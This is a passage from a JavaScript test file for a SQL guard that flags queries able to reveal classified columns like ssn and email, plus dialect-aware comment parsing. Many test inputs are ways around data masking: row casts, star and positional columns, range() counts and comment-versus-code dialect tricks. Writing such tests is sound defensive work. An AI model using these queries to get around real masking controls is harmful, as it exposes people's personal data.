    expect(replaceInCode(dividing, name, () => "X", "snowflake")).toBe(dividing);
    expect(replaceInCode(dividing, name, () => "X", "bigquery")).toBe("SELECT count(*) // 2 FROM X WHERE x # 1 = 0 AND y IN (SELECT y FROM {name})");
    // Standard SQL reads `'a\'` as a string and `{name}` as code; Snowflake reads one string up to `--'`.
    expect(replaceInCode("SELECT 'a\\', {name} --', 'b'", name, () => "X", "duckdb")).toBe("SELECT 'a\\', X --', 'b'");
    expect(replaceInCode("SELECT 'a\\', {name} --', 'b'", name, () => "X", "snowflake")).toBe("SELECT 'a\\', {name} --', 'b'");
  });
});

describe("whether a SQL rule's value may be a classified value", () => {
  const classified = { columns: new Set(["ssn", "email"]), relations: new Set(["people"]) };
  it.each([
    ["SELECT CAST(ssn AS BIGINT) FROM people LIMIT 1", true],
    ["SELECT max(email) FROM people", true],
    ['SELECT max(length("SSN")) FROM people', true],
    ["SELECT max(length(p.ssn)) FROM people AS p", true],
    // Without naming the column: a star, DuckDB's COLUMNS, the row as a value (by its table or its alias).
    ["SELECT max(length(x)) FROM (SELECT * FROM people) s(x)", true],
    ["SELECT max(length(CAST(p.* AS VARCHAR))) FROM people p", true],
    ["SELECT max(length(COLUMNS('s.n'))) FROM people", true],
    ["SELECT max(length(CAST(people AS VARCHAR))) FROM people", true],
    ['SELECT max(length(CAST(people AS VARCHAR))) FROM sales."people"', true],
    ["SELECT max(length(row_to_json(p)::text)) FROM people p", true],
    ["SELECT count(*) FROM people p JOIN other o ON length(p::text) > o.n", true],
    // Columns renamed by an alias list, DuckDB's FROM-first query (a star) and its positional `#n` column.
    ["SELECT max(ascii(e)) FROM people AS p(i, n, e)", true],
    ["SELECT max(ascii(e)) FROM sales.people p(i, n, e)", true],
    ["SELECT max(ascii(x)) FROM (FROM people) AS t(a, b, x)", true],
    ["SELECT max(ascii(x)) FROM (SELECT 1 AS x UNION ALL FROM people)", true],
    ["SELECT max(ascii(x)) FROM (SELECT #3 FROM people) AS t(x)", true],
    // A count, but not of a table's rows: range() counts up to a classified number.
    ["SELECT count(*) FROM range((SELECT CAST(max(ssn) AS BIGINT) FROM people))", true],
    ["SELECT count(*) FROM people, range((SELECT CAST(max(ssn) AS BIGINT) FROM people))", true],
    ["SELECT count(*) * 0 + max(length(email)) FROM people", true],
    ["SELECT count(*) FROM people WHERE true UNION ALL SELECT CAST(ssn AS BIGINT) FROM people ORDER BY 1 DESC LIMIT 1", true],
    // A comment under one engine's reading is code under another's.
    ["SELECT count(*) FROM people # \n + max(length(email))", true],
    // A count of one table's rows, whatever its condition reads; values of columns not classified.
    ["SELECT count(*) FROM people WHERE email IS NULL", false],
    ["SELECT count(*) FROM people p WHERE p.ssn NOT LIKE '___-__-____';", false],
    ["SELECT count(*) FROM people WHERE ssn IN (SELECT ssn FROM people GROUP BY ssn HAVING count(*) > 1)", false],
    ["SELECT max(amount) FROM people", false],
    ["SELECT max(amount) FROM warehouse.sales.people", false],
    ["SELECT avg(p.amount) FROM people AS p JOIN orders o ON p.id = o.person_id", false],
    ["SELECT count(*) * 2 FROM orders", false],
    ["SELECT 'email' = 'x'", false],
    ["SELECT max(a) FROM (SELECT amount FROM people) AS t(a)", false],
    ["SELECT count(*) FROM (FROM orders)", false],
    // SQL's other FROMs start no FROM-first query, and a join after the table is no alias renaming its columns.
    ["SELECT sum(amount) FROM people WHERE status IS DISTINCT FROM 'closed'", false],
    ["SELECT sum(amount) FROM people WHERE status IS NOT DISTINCT FROM 'open'", false],
    ["SELECT max(length(substring(name FROM 2))) FROM people", false],
    ["SELECT max(length(trim(FROM name))) FROM people", false],
    ["SELECT avg(o.amount) FROM people JOIN (SELECT person_id, amount FROM orders) o ON o.person_id = people.id", false],
    ["SELECT max(ascii(x)) FROM (SELECT 1 AS x UNION ALL BY NAME FROM people)", true],
    ["SELECT max(ascii(x)) FROM (SELECT 1 AS x EXCEPT DISTINCT FROM people)", true],
    // SUMMARIZE of a FROM-first query: each column's min and max, a classified one's named only in a string.
    ["SELECT CAST(max AS BIGINT) FROM (SUMMARIZE FROM people) WHERE column_name = 'ssn'", true],
    ["SELECT count(*) FROM (SUMMARIZE FROM orders)", false],
  ])("%j: masked %s", (sql, masked) => {
    expect(mayReturnClassifiedValue(sql, classified)).toBe(masked);
  });
  it("shows every value of a contract without classified columns", () => {
    expect(mayReturnClassifiedValue("SELECT * FROM people", { columns: new Set(), relations: new Set() })).toBe(false);
  });
});
